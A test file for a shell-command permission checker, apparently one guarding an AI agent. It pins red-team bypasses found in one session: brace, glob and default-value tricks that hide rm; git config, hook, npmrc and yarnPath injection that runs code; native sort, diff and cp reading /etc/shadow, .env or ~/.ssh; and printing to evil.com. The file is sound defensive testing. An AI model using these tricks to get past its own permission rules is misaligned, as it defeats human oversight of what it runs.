// Red-team finds of session 31, pinned with the rows that failed before the fix and rows that
// show ordinary lines stay allowed. Rows are also checked against the reference evaluator.
import { describe } from 'vitest';
import { lineTable } from './helpers/line-table.js';
import { REPO_LINUX, REPO_WINDOWS, type Rules } from './helpers/policy.js';

const DENY = ['Shell(rm *)', 'Shell(curl *)', 'Read(//etc/**)', 'Edit(//etc/**)', 'Read(~/.ssh/**)', 'Read(**/.env)', 'Domain(evil.com)'];
const ALLOW = ['Shell(*)', 'Read(/**)', 'Edit(/**)', 'Domain(*.github.com)'];
const RULES: Rules = { deny: DENY, allow: ALLOW };
const REPO_DARWIN = Object.freeze({ ...REPO_LINUX, platform: 'darwin' as const });

// PowerShell 7 on Linux and macOS defines no alias sort, diff, cp, mv, tee, cat, ls, man, lp,
// cpp, ... (about_Aliases): the name runs the native program. Only the cmdlet was read, whose
// parameter binding sees no file in `sort .env` (Sort-Object -Property) or `diff /etc/shadow x`
// (Compare-Object's objects), nor GNU cp's `-t DIR`.
describe('PowerShell 7 off Windows: an alias Linux and macOS leave to the native program (were allowed)', () => {
  const rows: [string, 'deny' | 'ask' | 'allow'][] = [
    ['sort .env', 'deny'],
    ['sort /etc/shadow', 'deny'],
    ['Sort /etc/shadow', 'deny'],
    ['& sort .env', 'deny'],
    ["& 'sort' .env", 'deny'],
    ['sort --files0-from=/etc/shadow', 'deny'],
    ['sort -o /etc/hosts x', 'deny'],
    ['sort -T /etc x', 'deny'],
    ['diff /etc/shadow x', 'deny'],
    ['diff .env x', 'deny'],
    ['diff -r ~/.ssh x', 'deny'],
    ['cp -t /etc x', 'deny'],
    ['cp --target-directory=/etc x', 'deny'],
    ['/usr/bin/sort /etc/shadow', 'deny'],
    ['/bin/cp -t /etc x', 'deny'],
    ['man -P "rm -rf /" ls', 'deny'],
    ['lp -h evil.com:631 x', 'deny'],
    ['lp /etc/shadow', 'deny'],
    ['cpp /etc/shadow', 'deny'],
    ['cpp -o /etc/hosts x', 'deny'],
    // Precision: ordinary lines stay allowed.
    ['sort a.txt', 'allow'],
    ['Get-ChildItem | sort -Property Name', 'allow'],
    ['ls | sort Name', 'allow'],
    ['ls -la src', 'allow'],
    ['cat README.md', 'allow'],
    ['cp a.txt b.txt', 'allow'],
    ['echo hi | tee log.txt', 'allow'],
    ['sleep 5', 'allow'],
  ];
  describe('linux', () => lineTable(RULES, rows, 'pwsh', REPO_LINUX));
  describe('darwin', () => lineTable(RULES, rows, 'pwsh', REPO_DARWIN));
});

// On Windows the aliases run the cmdlets: no native reading there (precision kept).
describe('PowerShell on Windows: the same names are the cmdlets', () => {
  lineTable({ deny: [...DENY, 'Read(//c/secret/**)'], allow: ALLOW }, [
    ['sort .env', 'allow'],
    ['diff a.txt b.txt', 'allow'],
    ['Get-ChildItem | sort -Property Name', 'allow'],
    ['cat C:\\secret\\x', 'deny'],
  ], 'pwsh', REPO_WINDOWS);
});

// A program the analysis does not read may run its words; an expansion's word was read only by
// its literal tail (`"$D/rm"`). What bash makes of the rest of it was not read: a brace
// alternative (`r{m,}` is `rm r`), a parameter's default or alternate value (`${X:-rm}`), an
// expansion that is empty (`r${X}m`), a glob that matches the program (`/bin/r?` is /bin/rm).
describe('an unknown program given a command name by brace, default value or glob (were allowed)', () => {
  const rules: Rules = { deny: ['Shell(rm *)', 'Shell(git push *)'], allow: ['Shell(mytool *)', 'Shell(python3 *)', 'Read(/**)', 'Edit(/**)'] };
  lineTable(rules, [
    ['mytool r{m,} -rf x', 'ask'],
    ['mytool {r,}m -rf x', 'ask'],
    ['mytool {q..s}m -rf x', 'ask'],
    ['mytool ${X:-rm} -rf x', 'ask'],
    ['mytool "${X:-rm}" -rf x', 'ask'],
    ['mytool ${X-rm} -rf x', 'ask'],
    ['mytool ${X:=rm} -rf x', 'ask'],
    ['mytool ${X:+rm} -rf x', 'ask'],
    ['mytool ${X:-rm -rf x}', 'ask'],
    ['mytool r${X}m -rf x', 'ask'],
    ['mytool "r$X"m -rf x', 'ask'],
    ['mytool /bin/r? -rf x', 'ask'],
    ['mytool /usr/bin/r? -rf x', 'ask'],
    ['mytool /bin/r* -rf x', 'ask'],
    ['mytool /bin/r[m] -rf x', 'ask'],
    ['mytool ${G:-git} push origin', 'ask'],
    ['python3 x.py ${X:-rm} -rf x', 'ask'],
    // Precision: words that show no program a rule names.
    ['mytool src/*.ts', 'allow'],
    ['mytool ${VAR:-default}', 'allow'],
    ['mytool --out=${OUT:-dist} build', 'allow'],
    ['mytool {a,b}.txt', 'allow'],
    ['mytool file{1..3}.log', 'allow'],
    ['mytool "$@"', 'allow'],
    ['mytool $X -rf x', 'allow'],
    ['mytool $(pwd)/build', 'allow'],
    ['mytool src/{main,test}/java', 'allow'],
    ['mytool ${G:-git} status', 'allow'],
    ['mytool l?', 'allow'],
    ['python3 tools/gen.py ${OUT:-out}.json', 'allow'],
  ]);
});

// A program that reads a file of the repository as code or settings without being given it ran
// what the line wrote there: git the repository's config (core.fsmonitor, core.pager, aliases)
// and hooks, npm/yarn/pnpm package.json, .npmrc (script-shell, node-options), .yarnrc.yml
// (yarnPath) and the tools' *.config.js, pytest and `python3 -m` any module of the directory.
describe('a file the line writes that a program then reads as code implicitly (were allowed)', () => {
  const rules: Rules = {
    deny: ['Shell(rm *)', 'Read(//etc/**)'],
    allow: ['Shell(git *)', 'Shell(npm *)', 'Shell(npx *)', 'Shell(yarn *)', 'Shell(pnpm *)', 'Shell(python3 *)', 'Shell(pytest *)', 'Shell(printf *)', 'Shell(echo *)', 'Shell(cp *)', 'Shell(sed *)', 'Shell(tee *)', 'Read(/**)', 'Edit(/**)'],
  };
  lineTable(rules, [
    ["printf '[core]\\n fsmonitor = rm -rf x' >> .git/config && git status", 'ask'],
    ["printf '[core]\\n pager = rm -rf x' >> .git/config && git log", 'ask'],
    // (Session 44: the hook's text is read as the commands it stores, so Shell(rm *) denies.)
    ["echo 'rm -rf x' > .git/hooks/pre-commit && git commit -m x", 'deny'],
    ['cp /tmp/h .git/hooks/post-checkout; git checkout main', 'ask'],
    ["printf 'script-shell=./s.sh' > .npmrc && npm test", 'ask'],
    ["printf 'x' | tee .npmrc && npm i", 'ask'],
    ["sed -i 's/\"test\": \"vitest\"/\"test\": \"rm -rf x\"/' package.json && npm test", 'ask'],
    ["echo 'yarnPath: ./y.js' > .yarnrc.yml && yarn", 'ask'],
    ["echo 'module.exports = {}' > jest.config.js && npx jest", 'ask'],
    ["echo 'import os' > conftest.py && python3 -m pytest", 'ask'],
    ["echo 'import os' > conftest.py && pytest", 'ask'],
    ["echo 'import os' > x.py && python3 -m x", 'ask'],
    ["echo 'import os' > json.py && python3 -m pip list", 'ask'],
    // Precision: the programs' own writes, and lines that write nothing they read.
    ['npm i lodash', 'allow'],
    ['npm i -D vitest && npm test', 'allow'],
    ['npm init -y && npm i express', 'allow'],
    ['git config user.name x && git commit -m y', 'allow'],
    ['yarn add react && yarn build', 'allow'],
    ['pnpm install && pnpm test', 'allow'],
    ['npm test 2>&1 | tee test.log', 'allow'],
    ['python3 -m pytest -q', 'allow'],
    ["echo 'import os' > x.py && git add x.py", 'allow'],
    ["echo x > notes.txt && python3 -m pytest", 'allow'],
    ['npx tsc -p tsconfig.build.json && cp package.json README.md dist/', 'allow'],
    // (A file below a subdirectory counts when the line moves there, or runs the program there.)
    ['echo x > sub/package.json && cd sub && npm test', 'ask'],
    ['echo x > sub/package.json && npm --prefix sub test', 'ask'],
    ['echo x > sub/.git/config && git -C sub status', 'ask'],
    ["echo 'import os' > tests/test_a.py && python3 -m pytest", 'ask'],
  ]);
});

// The same in a PowerShell line, where git is read in PowerShell's dialect (npm as from bash):
// Set-Content's .git/config and hooks were not seen by git's implicit reading.
describe('a file a PowerShell line writes that git then reads as code implicitly (were allowed)', () => {
  const rules: Rules = {
    deny: ['Shell(rm *)', 'Read(//etc/**)'],
    allow: ['Shell(git *)', 'Shell(npm *)', 'Shell(Set-Content *)', 'Shell(Add-Content *)', 'Shell(Out-File *)', 'Shell(Copy-Item *)', 'Shell(Set-Location *)', 'Read(/**)', 'Edit(/**)'],
  };
  const rows: [string, 'deny' | 'ask' | 'allow'][] = [
    ["Set-Content .git/config '[core] fsmonitor = rm -rf x'; git status", 'ask'],
    ["Add-Content -Path .git/config -Value '[core]'; git status", 'ask'],
    ["'x' | Out-File .git/hooks/pre-commit; git commit -m x", 'ask'],
    ['Copy-Item h .git/hooks/post-checkout; git checkout main', 'ask'],
    ["Set-Content sub/.git/config 'x'; Set-Location sub; git status", 'ask'],
    ["Set-Content package.json '{}'; npm test", 'ask'],
    // Precision: git's own writes, and files git does not read.
    ['git config user.name x; git commit -m y', 'allow'],
    ["Set-Content notes.txt 'x'; git add notes.txt", 'allow'],
    // (A nested repository's .git counts wherever it is, as from bash: git status reads a submodule's.)
    ["Set-Content sub/.git/config 'x'; git status", 'ask'],
  ];
  describe('linux', () => lineTable(rules, rows, 'pwsh', REPO_LINUX));
  describe('win32', () => lineTable(rules, rows, 'pwsh', REPO_WINDOWS));
});

// yarn's setting of the release file it runs (yarnPath, v1's yarn-path) and `yarn set version
// FILE`, which stores the file as that release, were not read as npm's script-shell is.
describe('yarn settings that store a program yarn runs later (were allowed)', () => {
  lineTable({ deny: ['Shell(rm *)'], allow: ['Shell(yarn *)', 'Read(/**)', 'Edit(/**)'] }, [
    ['yarn config set yarnPath ./y.js', 'ask'],
    ['yarn config set -H yarnPath ./y.js', 'ask'],
    ['yarn config set yarn-path ./y.js', 'ask'],
    ['yarn set version ./y.js', 'ask'],
    ['yarn set version .yarn/releases/x.cjs', 'ask'],
    // Precision: a version by name, and other settings.
    ['yarn set version stable', 'allow'],
    ['yarn set version 3.6.4', 'allow'],
    ['yarn config set nodeLinker node-modules', 'allow'],
    ['yarn config set enableTelemetry 0', 'allow'],
  ]);
});

// A program the analysis does not know, given a host name without a scheme: its words were read
// as possible paths, and a URL with a scheme as a host (`mytool https://evil.com/`), but not
// `mytool evil.com`, `--host=evil.com` or `user@evil.com:22`. They are possible hosts now: a
// deny or ask Domain rule naming one asks (a guess, as a possible path's rules ask).
describe('an unknown program given a host without a scheme (were allowed)', () => {
  const rules: Rules = { deny: ['Domain(evil.com)', 'Domain(*.evil.org)', 'Domain(10.0.0.9)', 'Shell(rm *)'], allow: ['Shell(*)', 'Read(/**)', 'Edit(/**)', 'Domain(*.github.com)'] };
  const rows: [string, 'deny' | 'ask' | 'allow'][] = [
    ['mytool evil.com', 'ask'],
    ['mytool EVIL.com', 'ask'],
    ['mytool evil.com:443', 'ask'],
    ['mytool --host evil.com', 'ask'],
    ['mytool --host=evil.com', 'ask'],
    ['mytool -h=evil.com', 'ask'],
    ['mytool user@evil.com', 'ask'],
    ['mytool deploy user@evil.com:22/srv', 'ask'],
    ['mytool upload evil.com/x', 'ask'],
    ['mytool push api.evil.org', 'ask'],
    ['mytool 10.0.0.9', 'ask'],
    ['./deploy.sh evil.com', 'ask'],
    // (A URL with a scheme is a host as before: it denies.)
    ['mytool https://evil.com/', 'deny'],
    // Precision: files, versions, other hosts, and tools that read their words otherwise.
    ['mytool README.md', 'allow'],
    ['mytool index.js src/app.ts', 'allow'],
    ['mytool v1.2.3', 'allow'],
    ['mytool 1.2.3', 'allow'],
    ['mytool api.github.com', 'allow'],
    ['mytool sub.evil.com', 'allow'],
    ['mytool notevil.com', 'allow'],
    ['echo evil.com', 'allow'],
    ['mytool --out=report.json', 'allow'],
  ];
  describe('linux', () => lineTable(rules, rows, 'shell', REPO_LINUX));
  describe('win32', () => lineTable(rules, rows, 'shell', REPO_WINDOWS));
  describe('PowerShell', () => lineTable(rules, rows.filter(([l]) => !l.startsWith('./')), 'pwsh', REPO_WINDOWS));
});

// An unknown program's word joined to a command by `:` or `@` (a target and a command, `x:rm`):
// its pieces were not read as a possible command, as those joined by `=`, `,` or a blank are.
describe('an unknown program given a command joined by : or @ (were allowed)', () => {
  const rules: Rules = { deny: ['Shell(rm *)', 'Shell(git push *)'], allow: ['Shell(*)', 'Read(/**)', 'Edit(/**)'] };
  lineTable(rules, [
    ['mytool x:rm -rf x', 'ask'],
    ['mytool x@rm -rf x', 'ask'],
    ['mytool rm@x -rf x', 'ask'],
    ['mytool --exec=x:rm -rf x', 'ask'],
    ['mytool x:git push origin', 'ask'],
    // Precision: pieces that name no rule's program, or do not read as its command.
    ['mytool node:20 run', 'allow'],
    ['mytool git@github.com:org/repo', 'allow'],
    ['mytool a:b:c d@e', 'allow'],
    ['mytool build:prod --env=ci', 'allow'],
  ]);
});
